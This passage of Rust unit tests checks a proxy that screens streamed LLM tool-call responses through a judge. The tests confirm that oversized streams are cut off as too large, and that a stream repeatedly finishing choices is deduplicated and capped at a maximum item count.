        chunk(serde_json::json!({"index":0,"delta":{},"finish_reason":"tool_calls"})),
    ];
    let mut rewriter = rewriter(true);
    let mut out = rewriter
        .push(events.concat().as_bytes(), &mut judge)
        .to_vec();
    out.extend_from_slice(&rewriter.finish(&mut judge));
    let out = String::from_utf8_lossy(&out);
    assert!(out.contains("response_too_large"), "{out}");
    assert!(!out.contains("call_0"), "{out}");
    assert_eq!(rewriter.unjudged(), Some(Unjudged::StreamTooLarge));
    assert!(judge.seen.is_empty());
}

/// A hostile stream finishes its choice again and again, then finishes choices without end:
/// each choice is remembered once, and past `MAX_ITEMS` the stream ends as too large.
#[test]
fn the_choices_a_stream_finishes_are_remembered_once_and_bounded() {
    let mut judge = DenyNamed {
        denied: &[],
        seen: Vec::new(),
    };
    let mut stream = Stream::default();
    let finish = |index: usize| {
        chunk(serde_json::json!({"index":index,"delta":{},"finish_reason":"stop"})).into_bytes()
    };
    for _ in 0..10_000 {
        let mut out = Vec::new();
        assert_eq!(stream.event(finish(0), &mut judge, &mut out), Ok(()));
    }
    assert_eq!(stream.ended.len(), 1, "choice 0, once");
    let mut out = Vec::new();
    let mut refused = None;
    for index in 1..=proposed::MAX_ITEMS {
        if let Err(why) = stream.event(finish(index), &mut judge, &mut out) {
            refused = Some((index, why));
            break;
        }
    }
    assert_eq!(
        refused,
        Some((proposed::MAX_ITEMS, Unjudged::StreamTooLarge))
    );
    assert_eq!(stream.ended.len(), proposed::MAX_ITEMS);
}
